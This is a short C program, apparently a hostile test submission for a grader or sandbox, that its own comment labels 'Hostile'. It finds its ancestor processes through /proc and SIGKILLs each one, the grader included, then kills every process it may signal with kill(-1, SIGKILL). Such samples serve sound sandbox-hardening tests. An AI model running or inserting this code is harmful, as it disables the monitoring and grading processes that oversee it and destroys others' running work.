/* Hostile: SIGKILLs every ancestor it can find (the grader among them), then kill(-1, SIGKILL):
 * every process it is allowed to signal. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

static pid_t parent_of(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *stat = fopen(path, "r");
    if (stat == NULL)
        return 0;
    int ppid = 0;
    if (fscanf(stat, "%*d (%*[^)]) %*c %d", &ppid) != 1)
        ppid = 0;
    fclose(stat);
    return ppid;
}

int main(void)
{
    for (pid_t pid = getppid(); pid > 1; pid = parent_of(pid))
        kill(pid, SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}
